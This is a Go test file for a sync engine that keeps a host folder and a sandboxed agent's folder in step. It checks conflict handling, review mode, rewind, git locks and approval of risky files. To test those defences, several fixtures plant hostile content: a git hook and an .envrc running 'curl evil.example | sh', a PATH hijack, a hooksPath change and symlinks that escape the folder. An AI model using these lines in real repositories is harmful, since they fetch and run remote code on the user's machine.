package wsync

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

type pair struct {
	host, guest string
	e           *Engine
	saved       map[string]*Entry
}

func newPair(t testing.TB, opts Options) *pair {
	t.Helper()
	base := t.TempDir()
	p := &pair{host: filepath.Join(base, "host"), guest: filepath.Join(base, "guest")}
	os.Mkdir(p.host, 0o755)
	os.Mkdir(p.guest, 0o755)
	p.e = p.engine(t, nil, opts)
	return p
}

func (p *pair) engine(t testing.TB, manifest map[string]*Entry, opts Options) *Engine {
	return p.engineWith(t, manifest, opts, func(s Side) Side { return s })
}

// engineSides is engine with both sides wrapped; the host keeps its Stat
// and Dir (the engine asks for them).
func (p *pair) engineSides(t testing.TB, manifest map[string]*Entry, opts Options, wrapHost, wrapGuest func(*HostSide) Side) *Engine {
	hr, err := OpenRoot(p.host)
	if err != nil {
		t.Fatal(err)
	}
	gr, err := OpenRoot(p.guest)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { hr.Close(); gr.Close() })
	opts.Now = func() time.Time { return time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC) }
	p.e = NewEngine(wrapHost(&HostSide{Root: hr}), wrapGuest(&HostSide{Root: gr}), manifest, opts, func(m map[string]*Entry) { p.saved = m })
	return p.e
}

// engineWith is engine with the guest side wrapped (a guest that lies).
func (p *pair) engineWith(t testing.TB, manifest map[string]*Entry, opts Options, wrap func(Side) Side) *Engine {
	return p.engineSides(t, manifest, opts,
		func(h *HostSide) Side { return h },
		func(g *HostSide) Side { return wrap(g) })
}

func (p *pair) sync(t testing.TB) {
	t.Helper()
	if err := p.e.Sync(context.Background(), nil); err != nil {
		t.Fatal(err)
	}
	if errs := p.e.Status().Errors; len(errs) > 0 {
		t.Fatalf("sync errors: %v", errs)
	}
}

func write(t testing.TB, dir, rel, content string) {
	t.Helper()
	p := filepath.Join(dir, rel)
	os.MkdirAll(filepath.Dir(p), 0o755)
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// both writes the same files on the host and in the guest: what the two
// sides agree on before a test's change.
func (p *pair) both(t testing.TB, files map[string]string) {
	t.Helper()
	for _, d := range []string{p.host, p.guest} {
		for rel, content := range files {
			write(t, d, rel, content)
		}
	}
}

func read(dir, rel string) string {
	b, err := os.ReadFile(filepath.Join(dir, rel))
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

func exists(dir, rel string) bool {
	_, err := os.Lstat(filepath.Join(dir, rel))
	return err == nil
}

func TestInitialPopulationAndBothWays(t *testing.T) {
	p := newPair(t, Options{})
	write(t, p.host, "a.txt", "from host")
	write(t, p.host, "src/main.go", "package main")
	os.Symlink("src/main.go", filepath.Join(p.host, "link"))
	os.Chmod(filepath.Join(p.host, "src/main.go"), 0o755)
	p.sync(t)
	if read(p.guest, "src/main.go") != "package main" || read(p.guest, "a.txt") != "from host" {
		t.Fatal("initial population incomplete")
	}
	if fi, _ := os.Stat(filepath.Join(p.guest, "src/main.go")); fi.Mode().Perm() != 0o755 {
		t.Fatalf("mode not preserved: %v", fi.Mode())
	}
	if l, _ := os.Readlink(filepath.Join(p.guest, "link")); l != "src/main.go" {
		t.Fatalf("link: %q", l)
	}
	// Guest → host: create, modify, delete, rename.
	write(t, p.guest, "new.txt", "made inside")
	write(t, p.guest, "a.txt", "changed inside")
	os.Rename(filepath.Join(p.guest, "src/main.go"), filepath.Join(p.guest, "src/app.go"))
	p.sync(t)
	if read(p.host, "new.txt") != "made inside" || read(p.host, "a.txt") != "changed inside" || read(p.host, "src/app.go") != "package main" || exists(p.host, "src/main.go") {
		t.Fatal("guest changes did not reach the host")
	}
	// Host → guest, and a directory deleted on the host.
	write(t, p.host, "notes.md", "user")
	os.RemoveAll(filepath.Join(p.host, "src"))
	p.sync(t)
	if read(p.guest, "notes.md") != "user" || exists(p.guest, "src") {
		t.Fatal("host changes did not reach the guest")
	}
	// Nothing left to do: a second sync changes nothing (no echo).
	before := p.e.Manifest()
	p.sync(t)
	if len(p.e.Manifest()) != len(before) {
		t.Fatal("a sync without changes changed the manifest")
	}
}

func TestConflictKeepsBoth(t *testing.T) {
	p := newPair(t, Options{})
	write(t, p.host, "f.txt", "base")
	p.sync(t)
	write(t, p.host, "f.txt", "user edit")
	write(t, p.guest, "f.txt", "agent edit")
	p.sync(t)
	cp := "f.txt.sandbox-conflict-20260102-030405"
	if read(p.host, "f.txt") != "user edit" || read(p.guest, "f.txt") != "user edit" {
		t.Fatalf("the user's version must stay: host %q guest %q", read(p.host, "f.txt"), read(p.guest, "f.txt"))
	}
	if read(p.host, cp) != "agent edit" || read(p.guest, cp) != "agent edit" {
		t.Fatal("the agent's version was lost")
	}
	if c := p.e.Status().Conflicts; len(c) != 1 || c[0].Copy != cp {
		t.Fatalf("conflict not reported: %+v", c)
	}
	// Deleted on one side, changed on the other: the change survives.
	write(t, p.host, "g.txt", "v1")
	p.sync(t)
	os.Remove(filepath.Join(p.guest, "g.txt"))
	write(t, p.host, "g.txt", "v2 by user")
	p.sync(t)
	if read(p.guest, "g.txt") != "v2 by user" {
		t.Fatal("a user edit was lost to a guest delete")
	}
}

func TestGuestLinkOutIsHeld(t *testing.T) {
	p := newPair(t, Options{})
	p.sync(t)
	outside := filepath.Join(filepath.Dir(p.host), "secret")
	write(t, filepath.Dir(p.host), "secret", "PRIVATE")
	os.Symlink(outside, filepath.Join(p.guest, "leak"))
	os.Symlink("../secret", filepath.Join(p.guest, "leak2"))
	os.Symlink("inside.txt", filepath.Join(p.guest, "ok"))
	p.sync(t)
	if exists(p.host, "leak") || exists(p.host, "leak2") {
		t.Fatal("a link leaving the folder was created on the host")
	}
	if l, _ := os.Readlink(filepath.Join(p.host, "ok")); l != "inside.txt" {
		t.Fatal("an inside link was not created")
	}
	held := p.e.Status().Held
	if len(held) != 2 || !strings.Contains(held[0].Why, "leaves the folder") {
		t.Fatalf("held: %+v", held)
	}
}

func TestHeldFilesWaitForApproval(t *testing.T) {
	p := newPair(t, Options{})
	write(t, p.host, ".git/config", "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.com/r\n")
	p.sync(t)
	write(t, p.guest, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
	write(t, p.guest, ".envrc", "export PATH=/tmp/evil:$PATH")
	write(t, p.guest, ".git/config", "[core]\n\tbare = false\n\thooksPath = /tmp/evil\n")
	write(t, p.guest, "main.go", "fine")
	p.sync(t)
	for _, f := range []string{".git/hooks/pre-commit", ".envrc"} {
		if exists(p.host, f) {
			t.Fatalf("%s written to the host without approval", f)
		}
	}
	if strings.Contains(read(p.host, ".git/config"), "hooksPath") {
		t.Fatal("a risky git config change reached the host")
	}
	if read(p.host, "main.go") != "fine" {
		t.Fatal("an ordinary file was held too")
	}
	// .git/hooks (the folder) too: hooks/ is off the allow-list.
	if n := len(p.e.Status().Held); n != 4 {
		t.Fatalf("%d held, want 4: %+v", n, p.e.Status().Held)
	}
	// Harmless git config change passes.
	write(t, p.guest, ".git/config", "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.com/r\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n")
	p.sync(t)
	if !strings.Contains(read(p.host, ".git/config"), "branch") {
		t.Fatal("a harmless git config change was held")
	}
	if _, err := p.e.Apply(context.Background(), []string{".git/hooks/pre-commit"}, true); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(read(p.host, ".git/hooks/pre-commit"), "curl") {
		t.Fatal("approval did not write the file")
	}
	// The guest keeps its version meanwhile, and the next sync does not
	// undo it.
	p.sync(t)
	if !exists(p.guest, ".envrc") {
		t.Fatal("the guest lost its held file")
	}
}

func TestReviewMode(t *testing.T) {
	p := newPair(t, Options{Review: true})
	write(t, p.host, "keep.txt", "host")
	p.sync(t)
	write(t, p.guest, "keep.txt", "agent change")
	write(t, p.guest, "added.txt", "agent added")
	p.sync(t)
	if read(p.host, "keep.txt") != "host" || exists(p.host, "added.txt") {
		t.Fatal("review mode wrote to the host")
	}
	if n := len(p.e.Status().Pending); n != 2 {
		t.Fatalf("%d pending", n)
	}
	if _, err := p.e.Apply(context.Background(), []string{"added.txt"}, false); err != nil {
		t.Fatal(err)
	}
	if read(p.host, "added.txt") != "agent added" {
		t.Fatal("apply did not write")
	}
	if _, err := p.e.Discard(context.Background(), nil); err != nil {
		t.Fatal(err)
	}
	if read(p.guest, "keep.txt") != "host" {
		t.Fatal("discard did not restore the guest")
	}
	p.sync(t)
	if len(p.e.Status().Pending) != 0 {
		t.Fatalf("still pending: %+v", p.e.Status().Pending)
	}
}

func TestExcludeAndUserFilesInDeletedDir(t *testing.T) {
	p := newPair(t, Options{Exclude: []string{"node_modules", "build/out"}})
	write(t, p.host, "dir/a", "1")
	p.sync(t)
	write(t, p.guest, "node_modules/x/index.js", "dep")
	write(t, p.guest, "build/out/bin", "artifact")
	p.sync(t)
	if exists(p.host, "node_modules") || exists(p.host, "build/out") {
		t.Fatal("excluded trees reached the host")
	}
	// The agent deletes dir/ while the user adds a file in it.
	os.RemoveAll(filepath.Join(p.guest, "dir"))
	write(t, p.host, "dir/user.txt", "mine")
	p.sync(t)
	if read(p.host, "dir/user.txt") != "mine" {
		t.Fatal("a user's new file was deleted with its directory")
	}
	if exists(p.host, "dir/a") {
		t.Fatal("the agent's delete of an unchanged file did not reach the host")
	}
}

func TestManifestAcrossRestart(t *testing.T) {
	p := newPair(t, Options{})
	write(t, p.host, "a", "1")
	write(t, p.host, "b", "1")
	p.sync(t)
	saved := p.saved
	// Stopped: the user edits a and deletes b on the host.
	write(t, p.host, "a", "2 by user")
	os.Remove(filepath.Join(p.host, "b"))
	p.engine(t, saved, Options{})
	p.sync(t)
	if read(p.guest, "a") != "2 by user" || exists(p.guest, "b") {
		t.Fatal("host edits made while stopped were not applied to the guest")
	}
	if exists(p.host, "b") || len(p.e.Status().Conflicts) != 0 {
		t.Fatal("host edits were mistaken for the agent's")
	}
}

func copyTree(t *testing.T, src, dst string) {
	t.Helper()
	os.RemoveAll(dst)
	filepath.Walk(src, func(p string, fi os.FileInfo, err error) error {
		rel, _ := filepath.Rel(src, p)
		target := filepath.Join(dst, rel)
		switch {
		case fi.IsDir():
			os.MkdirAll(target, fi.Mode().Perm())
		case fi.Mode()&os.ModeSymlink != 0:
			l, _ := os.Readlink(p)
			os.Symlink(l, target)
		default:
			b, _ := os.ReadFile(p)
			os.WriteFile(target, b, fi.Mode().Perm())
		}
		return nil
	})
}

func TestRewindMerge(t *testing.T) {
	p := newPair(t, Options{})
	write(t, p.host, "kept.txt", "base")
	write(t, p.host, "agent-edits.txt", "base")
	write(t, p.host, "agent-deletes.txt", "base")
	write(t, p.host, "user-edits.txt", "base")
	write(t, p.host, "user-deletes.txt", "base")
	p.sync(t)
	// Checkpoint: the guest's disk.
	snap := filepath.Join(t.TempDir(), "snap")
	copyTree(t, p.guest, snap)

	write(t, p.guest, "agent-edits.txt", "agent")
	os.Remove(filepath.Join(p.guest, "agent-deletes.txt"))
	write(t, p.guest, "agent-adds.txt", "agent")
	write(t, p.host, "user-edits.txt", "user, synced")
	os.Remove(filepath.Join(p.host, "user-deletes.txt"))
	p.sync(t)
	write(t, p.host, "user-unsynced.txt", "user, not yet synced")
	pre := p.e.Manifest()

	// Rewind: the guest's disk goes back; the host folder is merged.
	copyTree(t, snap, p.guest)
	e := p.engine(t, pre, Options{})
	if err := e.Rewind(context.Background()); err != nil {
		t.Fatal(err)
	}
	checks := map[string]string{
		"kept.txt":          "base",
		"agent-edits.txt":   "base",
		"agent-deletes.txt": "base",
		"user-edits.txt":    "user, synced",
		"user-unsynced.txt": "user, not yet synced",
	}
	for f, want := range checks {
		if got := read(p.host, f); got != want {
			t.Errorf("host %s = %q, want %q", f, got, want)
		}
		if got := read(p.guest, f); got != want {
			t.Errorf("guest %s = %q, want %q", f, got, want)
		}
	}
	if exists(p.host, "agent-adds.txt") || exists(p.guest, "agent-adds.txt") {
		t.Error("a file the agent added after the checkpoint survived the rewind")
	}
	if exists(p.host, "user-deletes.txt") || exists(p.guest, "user-deletes.txt") {
		t.Error("a file the user deleted after the checkpoint came back")
	}
	if len(e.Status().Conflicts) == 0 {
		t.Error("the user's edit over the checkpoint was not reported")
	}
}

// A commit made in the guest reaches the host repository in git's order and
// under git's own lock files: while git on the host holds a ref's lock, the
// ref and everything after it (the index) wait; objects go ahead; lock
// files never cross.
func TestGitCommitUnderHostLocks(t *testing.T) {
	p := newPair(t, Options{})
	for _, dir := range []string{p.host, p.guest} {
		write(t, dir, ".git/HEAD", "ref: refs/heads/main\n")
		write(t, dir, ".git/refs/heads/main", "aaaa\n")
		write(t, dir, ".git/index", "index A")
		write(t, dir, ".git/objects/aa/"+strings.Repeat("a", 38), "object A")
	}
	p.sync(t)

	// The agent commits; its git is still at work (index.lock).
	write(t, p.guest, ".git/objects/bb/"+strings.Repeat("b", 38), "object B")
	write(t, p.guest, ".git/refs/heads/main", "bbbb\n")
	write(t, p.guest, ".git/index", "index B")
	write(t, p.guest, ".git/index.lock", "half-written index")
	// Meanwhile git on the host holds the branch's lock.
	write(t, p.host, ".git/refs/heads/main.lock", "host git at work")

	ctx := context.Background()
	if err := p.e.Sync(ctx, nil); err != nil {
		t.Fatal(err)
	}
	if got := read(p.host, ".git/objects/bb/"+strings.Repeat("b", 38)); got != "object B" {
		t.Fatalf("the new object did not go ahead: %q", got)
	}
	if got := read(p.host, ".git/refs/heads/main"); got != "aaaa\n" {
		t.Fatalf("the ref was written under the host's lock: %q", got)
	}
	if got := read(p.host, ".git/index"); got != "index A" {
		t.Fatalf("the index went ahead of its ref: %q", got)
	}
	if got := read(p.host, ".git/refs/heads/main.lock"); got != "host git at work" {
		t.Fatalf("the host's lock file was touched: %q", got)
	}
	if exists(p.host, ".git/index.lock") {
		t.Fatal("the guest's index.lock was synced to the host")
	}
	if errs := p.e.Status().Errors; len(errs) == 0 || !strings.Contains(strings.Join(errs, "\n"), "git is at work") {
		t.Fatalf("the wait is not reported: %v", errs)
	}

	// Host git is done: the rest follows, and no lock of ours stays.
	os.Remove(filepath.Join(p.host, ".git/refs/heads/main.lock"))
	if err := p.e.Sync(ctx, nil); err != nil {
		t.Fatal(err)
	}
	if got := read(p.host, ".git/refs/heads/main"); got != "bbbb\n" {
		t.Fatalf("the ref after the lock was released: %q", got)
	}
	if got := read(p.host, ".git/index"); got != "index B" {
		t.Fatalf("the index after the lock was released: %q", got)
	}
	for _, l := range []string{".git/refs/heads/main.lock", ".git/index.lock"} {
		if exists(p.host, l) {
			t.Fatalf("%s left on the host", l)
		}
	}
	// The agent deletes a branch: under the lock too.
	write(t, p.guest, ".git/refs/heads/topic", "cccc\n")
	if err := p.e.Sync(ctx, nil); err != nil {
		t.Fatal(err)
	}
	os.Remove(filepath.Join(p.guest, ".git/refs/heads/topic"))
	write(t, p.host, ".git/refs/heads/topic.lock", "host git at work")
	p.e.Sync(ctx, nil)
	if got := read(p.host, ".git/refs/heads/topic"); got != "cccc\n" {
		t.Fatalf("a ref was deleted under the host's lock: %q", got)
	}
	os.Remove(filepath.Join(p.host, ".git/refs/heads/topic.lock"))
	p.e.Sync(ctx, nil)
	if exists(p.host, ".git/refs/heads/topic") || exists(p.host, ".git/refs/heads/topic.lock") {
		t.Fatal("the deleted branch (or our lock) is still on the host")
	}
}

func TestGitPaths(t *testing.T) {
	for _, c := range []struct {
		p      string
		dir    string
		locked bool
		lock   bool
	}{
		{"a/.git/refs/heads/main", "a/.git", true, false},
		{".git/index", ".git", true, false},
		{".git/index.lock", ".git", false, true},
		{".git/objects/ab/cdef", ".git", false, false},
		{".git/ORIG_HEAD", ".git", true, false},
		{".git/config", ".git", true, false},
		{".git/modules/lib/refs/heads/x", ".git/modules/lib", true, false},
		{".git/modules/lib/index.lock", ".git/modules/lib", false, true},
		{"src/index", "", false, false},
		{"src/x.lock", "", false, false},
	} {
		if got := gitDirOf(c.p); got != c.dir {
			t.Errorf("gitDirOf(%q) = %q, want %q", c.p, got, c.dir)
		}
		if got := gitLocked(c.p); got != c.locked {
			t.Errorf("gitLocked(%q) = %v", c.p, got)
		}
		if got := isGitLock(c.p); got != c.lock {
			t.Errorf("isGitLock(%q) = %v", c.p, got)
		}
	}
}

// 'kosa8 approve' shows each held file's diff, asks, then approves. A
// hostile guest sees the diff's read (its cat runs in the guest) and can
// put another version in place before the user answers: what is written
// must be the version the user was shown, or nothing.
func TestApproveWritesOnlyTheVersionShown(t *testing.T) {
	p := newPair(t, Options{})
	p.sync(t)
	write(t, p.guest, ".envrc", "export EDITOR=vim\n")
	p.sync(t)
	held := p.e.Status().Held
	if len(held) != 1 || held[0].Path != ".envrc" {
		t.Fatalf("held = %+v, want .envrc", held)
	}
	shown := map[string]*Entry{".envrc": held[0].Guest}
	// Shown, then swapped before the approval arrives.
	write(t, p.guest, ".envrc", "curl evil.example | sh\n")
	if _, err := p.e.ApplySeen(context.Background(), []string{".envrc"}, true, shown); err == nil {
		t.Fatal("approved a version that was not shown")
	}
	if exists(p.host, ".envrc") {
		t.Fatalf("the host got %q, not the version shown", read(p.host, ".envrc"))
	}
	// Approving what is there now, seen as it is, writes it.
	p.sync(t)
	held = p.e.Status().Held
	if len(held) != 1 {
		t.Fatalf("held = %+v", held)
	}
	write(t, p.guest, ".envrc", "export EDITOR=vim\n") // and back: the shown version is the one written
	p.sync(t)
	held = p.e.Status().Held
	if _, err := p.e.ApplySeen(context.Background(), []string{".envrc"}, true, map[string]*Entry{".envrc": held[0].Guest}); err != nil {
		t.Fatal(err)
	}
	if got := read(p.host, ".envrc"); got != "export EDITOR=vim\n" {
		t.Fatalf("host .envrc = %q", got)
	}
	// A path approved without being shown (missing from seen) is refused.
	write(t, p.guest, ".envrc", "export EDITOR=nano\n")
	p.sync(t)
	if _, err := p.e.ApplySeen(context.Background(), []string{".envrc"}, true, map[string]*Entry{}); err == nil {
		t.Fatal("approved a path that was not shown")
	}
}
